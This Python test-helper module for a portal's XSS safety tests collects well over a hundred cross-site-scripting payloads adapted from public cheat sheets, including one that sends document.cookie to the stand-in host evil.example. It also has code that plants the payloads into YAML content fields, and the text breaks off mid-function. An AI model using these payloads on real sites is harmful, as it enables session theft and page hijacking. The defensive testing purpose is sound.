"""Well-known cross-site-scripting payloads, and a helper that plants them in
every text field of a content YAML file while keeping the file valid.

Used by the safety tests (tests/test_build_safety_xss.py and the browser test
in tests/e2e/): every payload that could run calls ``console.log(MARKER)`` or
``alert(MARKER)``, so a test can see in Chromium whether any of them ran.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml

MARKER = "XSS-MARKER"

# Payloads for YAML text fields (rendered by the portal's templates: HTML text,
# attributes, JSON, SVG, Markdown that the portal generates).
PAYLOADS: list[str] = [
    f"<script>console.log('{MARKER}')</script>",
    f"\"><img src=x onerror=console.log('{MARKER}')>",
    f"javascript:alert('{MARKER}')",
    f"<svg onload=alert('{MARKER}')>",
    "{{7*7}}",
    f"</textarea><script>alert('{MARKER}')</script>",
    f"[x](javascript:alert('{MARKER}'))",
    f"'><svg/onload=console.log('{MARKER}')>",
    f"</script><script>console.log('{MARKER}')</script>",
    f"</text><script>console.log('{MARKER}')</script>",  # SVG <text>
    f"]]><script>console.log('{MARKER}')</script>",  # CDATA
    f"\"-alert('{MARKER}')-\"",  # JS string break-out
    f"<a href=\"javascript:alert('{MARKER}')\">点我</a>",
    f"<details open ontoggle=console.log('{MARKER}')>",
    f"<iframe srcdoc=\"<script>parent.console.log('{MARKER}')</script>\"></iframe>",
    f"${{console.log('{MARKER}')}}",  # template literal
    f"![x](x\" onerror=\"console.log('{MARKER}'))",
    f"<style>@import 'javascript:alert(1)';</style><b onmouseover=console.log('{MARKER}')>b</b>",
]

# Lines of Markdown prose that `check` must report as unsafe-html (one per line).
PROSE_UNSAFE: list[str] = [
    f"<script>console.log('{MARKER}')</script>",
    f"\"><img src=x onerror=console.log('{MARKER}')>",
    f"<img src=x onerror=alert('{MARKER}')>",
    f"<svg onload=alert('{MARKER}')>",
    f"<svg/onload=alert('{MARKER}')>",
    f"</textarea><script>alert('{MARKER}')</script>",
    f"[x](javascript:alert('{MARKER}'))",
    f"[x](JaVaScRiPt:alert('{MARKER}'))",
    f"[x](&#106;avascript:alert('{MARKER}'))",
    f"[x](java&#x09;script:alert('{MARKER}'))",
    f"[x][evil]\n\n[evil]: javascript:alert('{MARKER}')",
    f"<a href=\"javascript:alert('{MARKER}')\">点我</a>",
    f"<a href=\"jav&#x0A;ascript:alert('{MARKER}')\">点我</a>",
    f"<details open ontoggle=console.log('{MARKER}')>",
    f"<iframe srcdoc=\"<script>parent.console.log('{MARKER}')</script>\"></iframe>",
    f"<img src=x\n onerror=alert('{MARKER}')>",  # attribute on the next line
    f"<object data=\"data:text/html,<script>alert('{MARKER}')</script>\"></object>",
    f"<math><maction actiontype=statusline xlink:href=javascript:alert('{MARKER}')>x</maction></math>",
    f"<form action=javascript:alert('{MARKER}')><button>x</button></form>",
    f"<body onload=alert('{MARKER}')>",
]

# Prose lines that look odd but are harmless: check must NOT report them.
PROSE_SAFE: list[str] = [
    "{{7*7}} 是模板写法，这里只是文字。",
    "党员 onboarding 流程：先学习，再上岗。",
    "链接写法示例：[县政府网站](https://example.org/zhengwu)。",
    "数学：3 < 5 且 5 > 3。",
]


# -- The payload corpus -----------------------------------------------------------------
# Vectors written after well-known public lists (none copied wholesale; each
# rewritten to call MARKER and to point outside resources at evil.example, so a
# browser test can count what ran and what was fetched). Sources:
OWASP = "OWASP XSS Filter Evasion Cheat Sheet"
PORTSWIGGER = "PortSwigger Cross-site scripting cheat sheet"
HTML5SEC = "HTML5 Security Cheatsheet (html5sec.org)"
PATT = "PayloadsAllTheThings – XSS Injection"
ISSUE = "issue 10 (forms confirmed in Chromium)"
SOURCES = (OWASP, PORTSWIGGER, HTML5SEC, PATT, ISSUE)

# Kinds: "script" tries to run script (calls MARKER), "resource" tries to make the
# browser fetch from an outside host, "swallow" tries to hide the rest of the page.
KINDS = ("script", "resource", "swallow")
EVIL_HOST = "evil.example"


@dataclass(frozen=True)
class Vector:
    id: str  # stable short name, e.g. "owasp-img-js-entities-dec"
    text: str  # one Markdown block (no blank line inside)
    source: str
    kind: str


def _dec(s: str, pad: int = 0, semi: bool = True) -> str:
    """Every character as a decimal character reference (&#106; or &#0000106)."""
    return "".join(f"&#{ord(c):0{pad}d}" + (";" if semi else "") for c in s)


def _hex(s: str, semi: bool = True) -> str:
    return "".join(f"&#x{ord(c):X}" + (";" if semi else "") for c in s)


def _css_esc(s: str) -> str:
    return "".join(f"\\{ord(c):04x}" for c in s)


def _b64(s: str) -> str:
    import base64

    return base64.b64encode(s.encode()).decode()


def _vectors(m: str, h: str) -> list[tuple[str, str, str, str]]:
    """(id, source, kind, text) with marker m and outside host-and-path prefix h
    (e.g. "evil.example" or "evil.example/v007"). Every "script" vector calls
    alert/console.log with m; every "resource" vector points at http(s)://h or //h."""
    js = f"javascript:alert('{m}')"
    a = f"alert('{m}')"
    svg_script = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('{m}')\"/>"
    html_script = f"<script>alert('{m}')</script>"
    S, R, W = "script", "resource", "swallow"
    return [
        # ---- issue 10: the forms confirmed in Chromium --------------------------------
        ("issue-details-gt", ISSUE, S, f'<details title=">" open ontoggle={a}>x</details>'),
        ("issue-img-alt-gt", ISSUE, S, f'<img alt=">" src=x onerror={a}>'),
        ("issue-attrlist-img", ISSUE, S, f'![x](x.png){{onerror="{a}"}}'),
        ("issue-attrlist-para", ISSUE, S, f'这是一段正文。\n{{: onmouseover="{a}"}}'),
        ("issue-attrlist-link", ISSUE, S, f'[a](https://example.org){{onclick="{a}"}}'),
        ("issue-attrlist-href", ISSUE, S, f'[点这里](https://example.org){{: href="{js}"}}'),
        ("issue-attrlist-heading", ISSUE, S, f'## 小标题 {{: onclick="{a}" }}'),
        ("issue-gallery-caption", ISSUE, S, f"<img src=x onerror={a}>"),
        # ---- OWASP XSS Filter Evasion Cheat Sheet -------------------------------------
        ("owasp-script-src", OWASP, S, f"<SCRIPT SRC=http://{h}/xss.js></SCRIPT>"),
        ("owasp-img-js", OWASP, S, f'<IMG SRC="{js};">'),
        ("owasp-img-js-noquote", OWASP, S, f"<IMG SRC={js}>"),
        ("owasp-img-js-case", OWASP, S, f"<IMG SRC=JaVaScRiPt:alert('{m}')>"),
        ("owasp-img-js-grave", OWASP, S, f"<IMG SRC=`javascript:alert(\"RSnake says, '{m}'\")`>"),
        ("owasp-a-onmouseover", OWASP, S, f'<a onmouseover="{a}">xxs link</a>'),
        ("owasp-img-malformed", OWASP, S, f'<IMG """><SCRIPT>alert("{m}")</SCRIPT>"\\>'),
        (
            "owasp-fromcharcode",
            OWASP,
            S,
            f"<IMG SRC=x onerror=alert(String.fromCharCode({','.join(str(ord(c)) for c in m)})) title={m}>",
        ),
        ("owasp-img-hash-onmouseover", OWASP, S, f'<IMG SRC=# onmouseover="{a}">'),
        ("owasp-img-empty-src", OWASP, S, f'<IMG SRC= onmouseover="{a}">'),
        ("owasp-img-no-src", OWASP, S, f'<IMG onmouseover="{a}">'),
        ("owasp-img-onerror-slash", OWASP, S, f'<IMG SRC=/ onerror="{a}"></img>'),
        ("owasp-onerror-entities", OWASP, S, f'<img src=x onerror="{_dec(a, 7, False)}">'),
        ("owasp-img-dec-entities", OWASP, S, f"<IMG SRC={_dec(js)}>"),
        ("owasp-img-long-dec", OWASP, S, f"<IMG SRC={_dec(js, 7, False)}>"),
        ("owasp-img-hex-nosemi", OWASP, S, f"<IMG SRC={_hex(js, False)}>"),
        ("owasp-img-tab", OWASP, S, f"<IMG SRC=\"jav\tascript:alert('{m}');\">"),
        ("owasp-img-enc-tab", OWASP, S, f"<IMG SRC=\"jav&#x09;ascript:alert('{m}');\">"),
        ("owasp-img-enc-newline", OWASP, S, f"<IMG SRC=\"jav&#x0A;ascript:alert('{m}');\">"),
        ("owasp-img-enc-cr", OWASP, S, f"<IMG SRC=\"jav&#x0D;ascript:alert('{m}');\">"),
        ("owasp-img-meta-chars", OWASP, S, f"<IMG SRC=\" &#14;  javascript:alert('{m}');\">"),
        ("owasp-script-slash", OWASP, S, f'<SCRIPT/XSS SRC="http://{h}/xss.js"></SCRIPT>'),
        ("owasp-body-onload-junk", OWASP, S, f'<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("{m}")>'),
        ("owasp-double-open", OWASP, S, f'<<SCRIPT>alert("{m}");//\\<</SCRIPT>'),
        ("owasp-script-protocol-relative", OWASP, S, f"<SCRIPT SRC=//{h}/.j>"),
        ("owasp-iframe-half-open", OWASP, S, f"<iframe src=http://{h}/scriptlet.html <"),
        ("owasp-js-escape", OWASP, S, f"\\\";alert('{m}');//"),
        ("owasp-end-title", OWASP, S, f'</TITLE><SCRIPT>alert("{m}");</SCRIPT>'),
        ("owasp-input-image-js", OWASP, S, f'<INPUT TYPE="IMAGE" SRC="{js};">'),
        ("owasp-body-background-js", OWASP, S, f'<BODY BACKGROUND="{js}">'),
        ("owasp-img-dynsrc", OWASP, S, f'<IMG DYNSRC="{js}">'),
        ("owasp-img-lowsrc", OWASP, S, f'<IMG LOWSRC="{js}">'),
        ("owasp-list-style-image", OWASP, S, f'<STYLE>li {{list-style-image: url("{js}");}}</STYLE><UL><LI>XSS</br>'),
        ("owasp-svg-onload", OWASP, S, f"<svg/onload={a}>"),
        ("owasp-body-onload", OWASP, S, f"<BODY ONLOAD={a}>"),
        ("owasp-link-stylesheet-js", OWASP, S, f'<LINK REL="stylesheet" HREF="{js};">'),
        ("owasp-img-style-expression", OWASP, S, f"<IMG STYLE=\"xss:expr/*XSS*/ession(alert('{m}'))\">"),
        ("owasp-style-type-js", OWASP, S, f"<STYLE TYPE=\"text/javascript\">alert('{m}');</STYLE>"),
        ("owasp-style-class-bg-js", OWASP, S, f'<STYLE>.XSS{{background-image:url("{js}");}}</STYLE><A CLASS=XSS></A>'),
        ("owasp-meta-refresh-js", OWASP, S, f'<META HTTP-EQUIV="refresh" CONTENT="0;url={js};">'),
        (
            "owasp-meta-refresh-data",
            OWASP,
            S,
            f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,{_b64(html_script)}" title="{m}">',
        ),
        ("owasp-meta-refresh-double-url", OWASP, S, f'<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL={js};">'),
        ("owasp-iframe-js", OWASP, S, f'<IFRAME SRC="{js};"></IFRAME>'),
        ("owasp-iframe-onmouseover", OWASP, S, f'<IFRAME SRC=# onmouseover="{a}"></IFRAME>'),
        ("owasp-frameset", OWASP, S, f'<FRAMESET><FRAME SRC="{js};"></FRAMESET>'),
        ("owasp-table-background", OWASP, S, f'<TABLE BACKGROUND="{js}"><TR><TD>x</TD></TR></TABLE>'),
        ("owasp-td-background", OWASP, S, f'<TABLE><TD BACKGROUND="{js}">x</TD></TABLE>'),
        ("owasp-div-bg-js", OWASP, S, f'<DIV STYLE="background-image: url({js})">x</DIV>'),
        (
            "owasp-div-bg-css-escapes",
            OWASP,
            S,
            f'<DIV STYLE="background-image:{_css_esc("url(" + js + ")")}" title="{m}">x</DIV>',
        ),
        ("owasp-div-expression", OWASP, S, f"<DIV STYLE=\"width: expression(alert('{m}'));\">x</DIV>"),
        ("owasp-base-js", OWASP, S, f'<BASE HREF="{js};//">'),
        (
            "owasp-object-scriptlet",
            OWASP,
            S,
            f'<OBJECT TYPE="text/x-scriptlet" DATA="http://{h}/scriptlet.html"></OBJECT>',
        ),
        (
            "owasp-embed-svg-b64",
            OWASP,
            S,
            f'<EMBED SRC="data:image/svg+xml;base64,{_b64(svg_script)}" type="image/svg+xml" '
            f'AllowScriptAccess="always" title="{m}"></EMBED>',
        ),
        ("owasp-script-attr-gt", OWASP, S, f'<SCRIPT a=">" SRC="http://{h}/xss.js"></SCRIPT>'),
        ("owasp-script-eq-attr", OWASP, S, f'<SCRIPT ="blah" SRC="http://{h}/xss.js"></SCRIPT>'),
        ("owasp-script-grave-gt", OWASP, S, f'<SCRIPT a=`>` SRC="http://{h}/xss.js"></SCRIPT>'),
        ("owasp-a-href-colon-entity", OWASP, S, f"<a href=\"javascript&colon;alert('{m}')\">x</a>"),
        ("owasp-a-href-ctrl-char", OWASP, S, f'<a href="&#1;{js}">x</a>'),
        ("owasp-a-vbscript", OWASP, S, f'<a href="vbscript:msgbox(\'{m}\')" title="{a}">x</a>'),
        # ---- PortSwigger XSS cheat sheet -----------------------------------------------
        ("ps-details-ontoggle", PORTSWIGGER, S, f"<details open ontoggle={a}>"),
        ("ps-audio-onerror", PORTSWIGGER, S, f"<audio src=x onerror={a}>"),
        ("ps-video-onerror", PORTSWIGGER, S, f"<video src=x onerror={a}></video>"),
        ("ps-video-source-onerror", PORTSWIGGER, S, f'<video><source onerror="{a}"></video>'),
        ("ps-marquee-onstart", PORTSWIGGER, S, f"<marquee onstart={a}>XSS</marquee>"),
        ("ps-body-onpageshow", PORTSWIGGER, S, f"<body onpageshow={a}>"),
        (
            "ps-animationstart",
            PORTSWIGGER,
            S,
            f'<style>@keyframes x{{}}</style><xss style="animation-name:x" onanimationstart="{a}"></xss>',
        ),
        ("ps-custom-onfocus", PORTSWIGGER, S, f"<xss id=x tabindex=1 onfocus={a} autofocus></xss>"),
        ("ps-custom-onclick", PORTSWIGGER, S, f"<x onclick={a}>click this!</x>"),
        ("ps-pointerover", PORTSWIGGER, S, f"<div onpointerover={a}>MOVE HERE</div>"),
        ("ps-img-eval-src", PORTSWIGGER, S, f"<img src=x:alert(alt) onerror=eval(src) alt='{m}'>"),
        ("ps-iframe-srcdoc", PORTSWIGGER, S, f'<iframe srcdoc="<img src=x onerror={a}>"></iframe>'),
        (
            "ps-svg-animate-href",
            PORTSWIGGER,
            S,
            f"<svg><animate attributeName=href values={js} /><a id=x><text x=20 y=20>XSS</text></a></svg>",
        ),
        (
            "ps-svg-set-href",
            PORTSWIGGER,
            S,
            f'<svg><a><set attributeName="href" to="{js}"/><text x=20 y=20>XSS</text></a></svg>',
        ),
        (
            "ps-svg-animatetransform",
            PORTSWIGGER,
            S,
            f"<svg><animatetransform onbegin={a} attributeName=transform></svg>",
        ),
        ("ps-noscript-mxss", PORTSWIGGER, S, f'<noscript><p title="</noscript><img src=x onerror={a}>">'),
        (
            "ps-popover",
            PORTSWIGGER,
            S,
            f'<button popovertarget=x>Click</button><input type="hidden" popover id=x onbeforetoggle={a}>',
        ),
        ("ps-a-href-entity-tab", PORTSWIGGER, S, f"<a href=\"javas&Tab;cript:alert('{m}')\">x</a>"),
        ("ps-a-href-dec-colon", PORTSWIGGER, S, f"<a href=\"javascript&#58;alert('{m}')\">x</a>"),
        ("ps-a-href-js-comment-newline", PORTSWIGGER, S, f"<a href=\"javascript://%0aalert('{m}')\">x</a>"),
        ("ps-svg-style-mxss", PORTSWIGGER, S, f"<svg><style><img src=x onerror={a}></style></svg>"),
        ("ps-object-data-js", PORTSWIGGER, S, f'<object data="{js}"></object>'),
        ("ps-embed-src-js", PORTSWIGGER, S, f'<embed src="{js}">'),
        (
            "ps-iframe-data-html",
            PORTSWIGGER,
            S,
            f"<iframe src=\"data:text/html,<script>parent.alert('{m}')</script>\"></iframe>",
        ),
        # ---- HTML5 Security Cheatsheet ------------------------------------------------
        ("h5-form-formaction", HTML5SEC, S, f"<form><button formaction={js}>X</button></form>"),
        ("h5-onforminput", HTML5SEC, S, f"<form id=test onforminput={a}><input></form>"),
        ("h5-input-autofocus", HTML5SEC, S, f"<input onfocus={a} autofocus>"),
        ("h5-select-autofocus", HTML5SEC, S, f"<select onfocus={a} autofocus></select>"),
        ("h5-keygen-autofocus", HTML5SEC, S, f"<keygen onfocus={a} autofocus>"),
        ("h5-video-poster-js", HTML5SEC, S, f"<video poster={js}//></video>"),
        ("h5-math-href", HTML5SEC, S, f'<math href="{js}">CLICKME</math>'),
        (
            "h5-maction",
            HTML5SEC,
            S,
            f'<math><maction actiontype="statusline#http://{h}" xlink:href="{js}">CLICKME</maction></math>',
        ),
        (
            "h5-svg-a-xlink",
            HTML5SEC,
            S,
            f'<svg><a xlink:href="{js}"><rect width="1000" height="1000" fill="white"/></a></svg>',
        ),
        ("h5-svg-script-xlink", HTML5SEC, S, f"<svg><script xlink:href=data:,alert('{m}') /></svg>"),
        (
            "h5-svg-foreignobject",
            HTML5SEC,
            S,
            f"<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;parent.alert('{m}')&lt;/script&gt;\">"
            f"</iframe></foreignObject></svg>",
        ),
        ("h5-comment-breakout", HTML5SEC, S, f'<!--<img src="--><img src=x onerror={a}//">'),
        ("h5-pi-breakout", HTML5SEC, S, f"<? foo=\"><script>alert('{m}')</script>\">"),
        ("h5-cdata", HTML5SEC, S, f"<![CDATA[<script>alert('{m}')</script>]]>"),
        ("h5-isindex", HTML5SEC, S, f"<isindex type=image src=1 onerror={a}>"),
        ("h5-xmp-mxss", HTML5SEC, S, f'<xmp><p title="</xmp><svg/onload={a}>">'),
        (
            "h5-svg-set-onmouseover",
            HTML5SEC,
            S,
            f'<svg><rect width=99 height=99><set attributeName="onmouseover" to="{a}"/></rect></svg>',
        ),
        ("h5-frameset-onload", HTML5SEC, S, f"<frameset onload={a}>"),
        # ---- PayloadsAllTheThings -----------------------------------------------------
        ("patt-img-1", PATT, S, f"<img src=1 onerror={a}>"),
        ("patt-svg-unclosed", PATT, S, f"<svg/onload={a}//"),
        ("patt-body-slash", PATT, S, f"<body/onload={a}>"),
        ("patt-img-slashes", PATT, S, f"<img/src/onerror={a}>"),
        ("patt-mixed-case", PATT, S, f"<sVg/oNloAd={a}>"),
        ("patt-paren-entities", PATT, S, f"<svg onload=alert&#40;'{m}'&#41;>"),
        ("patt-unicode-escape", PATT, S, f"<img src=x onerror=\\u0061lert('{m}')>"),
        ("patt-settimeout", PATT, S, f"<svg onload=setTimeout('alert(\\'{m}\\')')>"),
        ("patt-bracket-call", PATT, S, f"<img src=x onerror=top['al'+'ert']('{m}')>"),
        ("patt-console", PATT, S, f"<img src=x onerror=console.log('{m}')>"),
        ("patt-script-plain", PATT, S, html_script),
        ("patt-script-console", PATT, S, f"<script>console.log('{m}')</script>"),
        ("patt-comment-close", PATT, S, f"--><script>alert('{m}')</script>"),
        ("patt-attr-breakout", PATT, S, f"\"><img src=x onerror=console.log('{m}')>"),
        ("patt-single-breakout", PATT, S, f"'><svg/onload=console.log('{m}')>"),
        ("patt-script-breakout", PATT, S, f"</script><script>console.log('{m}')</script>"),
        ("patt-a-data-html", PATT, S, f'<a href="data:text/html;base64,{_b64(html_script)}" title="{m}">x</a>'),
        ("patt-a-data-html-plain", PATT, S, f'<a href="data:text/html,{html_script}">x</a>'),
        ("patt-a-js-upper", PATT, S, f"<a href=\"JAVASCRIPT:alert('{m}')\">x</a>"),
        ("patt-a-js-leading-space", PATT, S, f'<a href=" {js}">x</a>'),
        ("patt-a-js-hex-entities", PATT, S, f"<a href=\"{_hex('javascript:')}alert('{m}')\">x</a>"),
        ("patt-iframe-data-svg", PATT, S, f'<iframe/src="data:text/html,<svg onload={a}>">'),
        ("patt-contenteditable", PATT, S, f"<p contenteditable onfocus={a} autofocus>x</p>"),
        ("patt-template-literal", PATT, S, f"${{alert('{m}')}}"),
        (
            "patt-xss-image-beacon",
            PATT,
            S,
            f"<img src=x onerror=\"new Image().src='//{h}/c?'+document.cookie\" title={m}>",
        ),
        # Markdown links and images (PayloadsAllTheThings, "XSS in Markdown")
        ("md-link-js", PATT, S, f"[x]({js})"),
        ("md-link-js-case", PATT, S, f"[x](JaVaScRiPt:alert('{m}'))"),
        ("md-link-js-entity", PATT, S, f"[x](&#106;avascript:alert('{m}'))"),
        ("md-link-js-tab-entity", PATT, S, f"[x](java&#x09;script:alert('{m}'))"),
        ("md-link-js-angle", PATT, S, f"[x](<{js}>)"),
        ("md-link-ref-js", PATT, S, f"[x][evil{m[-3:]}]\n[evil{m[-3:]}]: {js}"),
        ("md-image-js", PATT, S, f"![x]({js})"),
        ("md-link-data", PATT, S, f"[{m}](data:text/html;base64,{_b64(html_script)})"),
        ("md-link-vbscript", PATT, S, f"[x](vbscript:alert('{m}'))"),
        ("md-image-title-breakout", PATT, S, f"![x](x\" onerror=\"alert('{m}'))"),
        ("md-autolink-js", PATT, S, f"<{js}>"),
        # ---- outside resources (the 13 forms of issue 10, and more) --------------------
        ("res-md-image-http", ISSUE, R, f"![](http://{h}/r-md.png)"),
        ("res-md-image-protocol-relative", ISSUE, R, f'![远程图片](//{h}/r-md2.png "标题")'),
        ("res-md-image-reference", ISSUE, R, f"![参考图][img{m[-3:]}]\n[img{m[-3:]}]: http://{h}/r-ref.png"),
        ("res-img-src", ISSUE, R, f'<img src="http://{h}/r-img.png">'),
        ("res-img-srcset", ISSUE, R, f'<img src="x.png" srcset="http://{h}/r-srcset.png 2x">'),
        ("res-img-srcset-second", ISSUE, R, f'<img src="x.png" srcset="x.png 1x, https://{h}/r-srcset2.png 2x">'),
        ("res-picture-source", ISSUE, R, f'<picture><source srcset="//{h}/r-pic.webp"><img src="x.png"></picture>'),
        ("res-style-attr", ISSUE, R, f'<p style="background:url(//{h}/r-style.png)">段落</p>'),
        ("res-attrlist-style", ISSUE, R, f'这是一段正文。\n{{: style="background:url(//{h}/r-attrlist.png)"}}'),
        ("res-video-poster", ISSUE, R, f'<video poster="http://{h}/r-poster.png"></video>'),
        ("res-video-src", ISSUE, R, f'<video src="http://{h}/r-video.mp4"></video>'),
        ("res-video-source", ISSUE, R, f'<video><source src="//{h}/r-source.mp4"></video>'),
        ("res-video-track", ISSUE, R, f'<video><track src="//{h}/r-track.vtt"></video>'),
        ("res-audio-src", ISSUE, R, f'<audio src="http://{h}/r-audio.mp3"></audio>'),
        ("res-svg-image-href", ISSUE, R, f'<svg><image href="http://{h}/r-svgimg.png"/></svg>'),
        ("res-svg-image-xlink", ISSUE, R, f'<svg><image xlink:href="//{h}/r-svgimg2.png"/></svg>'),
        ("res-svg-feimage", ISSUE, R, f'<svg><filter id=f><feImage href="//{h}/r-feimage.png"/></filter></svg>'),
        ("res-svg-use", ISSUE, R, f'<svg><use href="//{h}/r-use.svg#x"/></svg>'),
        ("res-table-background", ISSUE, R, f'<table background="http://{h}/r-table.png"><tr><td>x</td></tr></table>'),
        ("res-body-background", ISSUE, R, f'<body background="//{h}/r-body.png">'),
        ("res-div-background", ISSUE, R, f'<div background="//{h}/r-div.png">x</div>'),
        ("res-input-image", ISSUE, R, f'<input type="image" src="http://{h}/r-input.png">'),
        ("res-link-stylesheet", OWASP, R, f'<link rel="stylesheet" href="http://{h}/r-link.css">'),
        ("res-link-preload", PORTSWIGGER, R, f'<link rel="preload" as="image" href="//{h}/r-preload.png">'),
        ("res-link-icon", PORTSWIGGER, R, f'<link rel="icon" href="//{h}/r-icon.png">'),
        (
            "res-meta-link-header",
            OWASP,
            R,
            f'<META HTTP-EQUIV="Link" Content="<http://{h}/r-metalink.css>; REL=stylesheet">',
        ),
        ("res-object-data", OWASP, R, f'<object data="http://{h}/r-object.swf"></object>'),
        ("res-embed-src", OWASP, R, f'<embed src="http://{h}/r-embed.swf">'),
        ("res-iframe-src", OWASP, R, f'<iframe src="http://{h}/r-iframe.html"></iframe>'),
        ("res-iframe-srcdoc-img", PORTSWIGGER, R, f'<iframe srcdoc="<img src=//{h}/r-srcdoc.png>"></iframe>'),
        ("res-style-import-url", OWASP, R, f"<style>@import url(http://{h}/r-import.css);</style>"),
        ("res-style-import-string", OWASP, R, f"<STYLE>@import'//{h}/r-import2.css';</STYLE>"),
        ("res-style-moz-binding", OWASP, R, f'<STYLE>BODY{{-moz-binding:url("http://{h}/r-moz.xml#xss")}}</STYLE>'),
        ("res-svg-style-import", PORTSWIGGER, R, f"<svg><style>@import url(//{h}/r-svgimport.css);</style></svg>"),
        (
            "res-style-image-set",
            PORTSWIGGER,
            R,
            f"<div style=\"background-image:image-set('//{h}/r-imageset.png' 1x)\">x</div>",
        ),
        ("res-style-css-escape", OWASP, R, f'<p style="background:u\\72l(//{h}/r-cssesc.png)">x</p>'),
        ("res-style-entity-slashes", OWASP, R, f'<p style="background:url(&#x2F;&#x2F;{h}/r-entity.png)">x</p>'),
        ("res-style-list-image", OWASP, R, f'<ul style="list-style-image:url(http://{h}/r-list.png)"><li>x</li></ul>'),
        ("res-img-backslash", PORTSWIGGER, R, f'<img src="/\\{h}/r-backslash.png">'),
        ("res-img-scheme-no-slashes", PORTSWIGGER, R, f'<img src="https:{h}/r-noslash.png">'),
        ("res-a-ping", PORTSWIGGER, R, f'<a href="https://example.org/" ping="http://{h}/r-ping">链接</a>'),
        ("res-mglyph", HTML5SEC, R, f'<math><mglyph src="//{h}/r-mglyph.png"></mglyph></math>'),
        ("res-base-href", OWASP, R, f'<base href="http://{h}/r-base/">'),
        ("res-meta-refresh", OWASP, R, f'<meta http-equiv="refresh" content="0;url=http://{h}/r-refresh">'),
        ("res-form-action", HTML5SEC, R, f'<form action="http://{h}/r-form"><input type=submit value=提交></form>'),
        (
            "res-img-data-svg-inner",
            PORTSWIGGER,
            R,
            f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://{h}/r-datasvg.png'/></svg>\">",
        ),
        # ---- markup that swallows the rest of the page --------------------------------
        ("swallow-plaintext", ISSUE, W, f"<plaintext>{m}"),
        ("swallow-textarea", ISSUE, W, f"<textarea>{m}"),
        ("swallow-template", HTML5SEC, W, f"<template>{m}"),
        ("swallow-noscript", HTML5SEC, W, f"<noscript>{m}"),
        ("swallow-xmp", HTML5SEC, W, f"<xmp>{m}"),
        ("swallow-title", HTML5SEC, W, f"<title>{m}"),
        ("swallow-style", HTML5SEC, W, f"<style>{m}"),
        ("swallow-iframe", HTML5SEC, W, f"<iframe>{m}"),
        ("swallow-noembed", HTML5SEC, W, f"<noembed>{m}"),
        ("swallow-noframes", HTML5SEC, W, f"<noframes>{m}"),
        ("swallow-select", HTML5SEC, W, f"<select><option>{m}"),
        ("swallow-comment", HTML5SEC, W, f"<!-- {m}"),
        ("swallow-textarea-autofocus", HTML5SEC, S, f"<textarea onfocus={a} autofocus>{m}"),
    ]


def corpus(marker: str = MARKER, host: str = EVIL_HOST) -> list[Vector]:
    """The payload corpus with the given marker and outside host."""
    return [Vector(i, t, s, k) for i, s, k, t in _vectors(marker, host)]


def tagged_corpus() -> list[Vector]:
    """The corpus with a per-vector marker ("XSS-MARKER-017") and outside path
    ("evil.example/v017/…"), so a finding or a console line names its vector.
    The tagged marker still contains MARKER."""
    n = len(_vectors(MARKER, EVIL_HOST))
    out = []
    for i in range(n):
        vid, s, k, t = _vectors(tag_marker(i), f"{EVIL_HOST}/{tag_path(i)}")[i]
        out.append(Vector(vid, t, s, k))
    return out


def tag_marker(i: int) -> str:
    return f"{MARKER}-{i:03d}"


def tag_path(i: int) -> str:
    return f"v{i:03d}"


CORPUS: list[Vector] = corpus()


Path_ = tuple


def string_paths(data: Any, path: tuple = ()) -> Iterator[tuple[tuple, str]]:
    """Every (path, value) of a string leaf of loaded YAML data."""
    if isinstance(data, dict):
        for k, v in data.items():
            yield from string_paths(v, (*path, k))
    elif isinstance(data, list):
        for i, v in enumerate(data):
            yield from string_paths(v, (*path, i))
    elif isinstance(data, str):
        yield path, data


def _set(data: Any, path: tuple, value: Any) -> None:
    for k in path[:-1]:
        data = data[k]
    data[path[-1]] = value


def dump(data: Any) -> str:
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False, default_flow_style=False, width=10_000)


def _same_file(reported: str, yaml_file: Path) -> bool:
    """Whether a diagnostic's file is yaml_file (village.yml exists once per village)."""
    return Path(reported).parts[-2:] == yaml_file.parts[-2:]


def plant(
    yaml_file: Path,
    payloads: list[str],
    problems: Callable[[], list[tuple[str, int]]],
    start: int = 0,
    rounds: int = 16,
    rejected: dict[str, list[tuple[tuple, int]]] | None = None,
    max_tries: int = 6,
) -> dict[tuple, str]:
    """Append a payload to every string field of yaml_file (round-robin from
    `start`), then revert the fields the content checks reject, until the file
    is valid again. `problems()` returns (file name, line) of every error and
    warning now reported. Payloads left without a field are appended to the
    fields that took one (spread evenly; a field rejected after such an append
    goes back to its last accepted value and takes no more), until each
    payload is placed or was rejected `max_tries` times. Returns {path: planted
    value} of the fields kept; `rejected`, when given, receives {payload:
    [(path, line), …]} of every rejection (the line check reported)."""
    from builder.kernel.diagnostics import Diagnostics
    from builder.kernel.loading.yamlsrc import parse_yaml

    original = yaml.safe_load(yaml_file.read_text(encoding="utf-8"))
    data = yaml.safe_load(yaml_file.read_text(encoding="utf-8"))
    paths = [path for path, _ in string_paths(original)]
    order = {path: i for i, path in enumerate(paths)}
    planted: dict[tuple, str] = {}
    holds: dict[tuple, list[str]] = {}  # payloads in each planted field
    accepted: dict[tuple, tuple[str, list[str]]] = {}  # last value check accepted
    full: set[tuple] = set()
    tries: dict[str, int] = {}
    for i, (path, value) in enumerate(string_paths(original)):
        p = payloads[(start + i) % len(payloads)]
        planted[path] = f"{value} {p}"
        holds[path] = [p]
        _set(data, path, planted[path])
    for _ in range(rounds):
        text = dump(data)
        yaml_file.write_text(text, encoding="utf-8")
        bad_lines = {line for f, line in problems() if _same_file(f, yaml_file)}
        if not bad_lines:
            accepted = {path: (v, list(holds[path])) for path, v in planted.items()}
            missing = [
                p
                for p in dict.fromkeys(payloads)
                if not any(p in v for v in planted.values()) and tries.get(p, 0) < max_tries
            ]
            targets = sorted(
                (path for path in planted if path not in full),
                key=lambda q: (len(holds[q]), -len(planted[q]), order[q]),
            )
            if not missing or not targets:
                return planted
            for j, p in enumerate(missing):
                path = targets[j % len(targets)]
                planted[path] = f"{planted[path]} {p}"
                holds[path].append(p)
                _set(data, path, planted[path])
            continue
        doc = parse_yaml(text, yaml_file.name, Diagnostics())
        if doc is None:  # the dump of plain data always parses; say so if it ever does not
